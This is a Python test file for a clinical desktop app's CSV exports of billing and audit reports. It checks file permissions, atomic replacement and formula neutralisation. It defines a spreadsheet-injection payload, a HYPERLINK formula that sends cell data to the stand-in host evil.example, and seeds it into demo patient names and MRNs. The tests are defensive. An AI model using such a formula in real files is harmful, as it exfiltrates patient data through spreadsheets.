"""Files saved from the GUI (billing CSV from the Reports menu, audit report CSV) are owner-only
whatever the umask, replace an older file whole, and carry formulas typed into names or MRNs as text."""

from __future__ import annotations

import csv
import io
import os
import time
from datetime import date
from pathlib import Path

from PySide6.QtWidgets import QFileDialog
from sqlalchemy import select, update

from cocm_desktop.gui.admin.audit import AuditReportDialog
from cocm_desktop.reports.output import temp_name
from cocm_desktop.store.database import Database
from cocm_desktop.store.models import Patient

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&C2&D2,"Open chart")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_demo(path: Path) -> None:
    """Every demo patient's family name is a formula and every MRN starts with '='."""
    with Database.open(path, "lead", "demo") as db, db.session() as s:
        s.execute(update(Patient).values(family_name=HOSTILE_NAME, mrn="=" + Patient.mrn))


def _older_world_readable(path: Path) -> Path:
    path.write_text("an older export")
    path.chmod(0o644)
    return path


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _save_to(monkeypatch, path: Path) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(QFileDialog, "getSaveFileName", staticmethod(lambda *a, **k: (str(path), "")))


def test_billing_csv_saved_from_the_reports_menu(open_window, demo_path, tmp_path, wait_idle, auto_dialogs, monkeypatch, permissive_umask) -> None:  # type: ignore[no-untyped-def]
    _hostile_demo(demo_path)
    w = open_window(demo_path, "lead")
    monkeypatch.setattr("cocm_desktop.gui.reports.ask_month", lambda parent, title: date(2026, 10, 1))
    target = _older_world_readable(tmp_path / "billing-2026-10.csv")
    _save_to(monkeypatch, target)
    w.ui.actionBillingReport.trigger()
    wait_idle()
    assert "Billing month: Saved billing-2026-10.csv." in auto_dialogs
    rows = _rows(target)
    assert rows and all(r["patient"].startswith(f"'{HOSTILE_NAME}, ") and r["mrn"].startswith("'=") for r in rows)
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())
    assert all(r["counted_minutes"].isdigit() for r in rows)
    assert target.stat().st_mode & 0o777 == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_audit_csv_exported_from_the_audit_dialog(open_window, demo_path, tmp_path, qtbot, wait_idle, monkeypatch, permissive_umask) -> None:  # type: ignore[no-untyped-def]
    _hostile_demo(demo_path)
    w = open_window(demo_path, "lead")
    with w.ctx.db.session() as s:
        pid = s.scalar(select(Patient.id).limit(1))
    w.open_chart(pid)  # audited as chart.open with the patient: its MRN is in the export
    wait_idle()
    d = AuditReportDialog(w.ctx, w)
    qtbot.addWidget(d)
    d.start.setDate(d.start.date().addYears(-2))
    target = _older_world_readable(tmp_path / "audit.csv")
    _save_to(monkeypatch, target)
    d.export_csv()
    wait_idle()
    rows = _rows(target)
    with_patient = [r for r in rows if r["patient_mrn"]]
    assert with_patient and all(r["patient_mrn"].startswith("'=") for r in with_patient)
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())
    assert target.stat().st_mode & 0o777 == 0o600
    assert d.count.text().startswith("Saved audit.csv")


def test_a_save_into_a_missing_folder_is_one_plain_message(open_window, demo_path, tmp_path, wait_idle, auto_dialogs, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    w = open_window(demo_path, "lead")
    monkeypatch.setattr("cocm_desktop.gui.reports.ask_month", lambda parent, title: date(2026, 10, 1))
    _save_to(monkeypatch, tmp_path / "gone" / "billing.csv")
    w.ui.actionBillingReport.trigger()
    wait_idle()
    assert f"Not saved: {tmp_path / 'gone' / 'billing.csv'} could not be written: No such file or directory." in auto_dialogs


def test_signing_in_removes_leftovers_of_killed_saves_beside_the_database(open_window, demo_path) -> None:  # type: ignore[no-untyped-def]
    stale, fresh = (demo_path.parent / temp_name("registry.csv") for _ in range(2))
    for p in (stale, fresh):
        p.write_text("half an export")
    os.utime(stale, (time.time() - 7200, time.time() - 7200))
    open_window(demo_path, "cm1")
    assert not stale.exists() and fresh.exists()  # a save younger than an hour may still be running
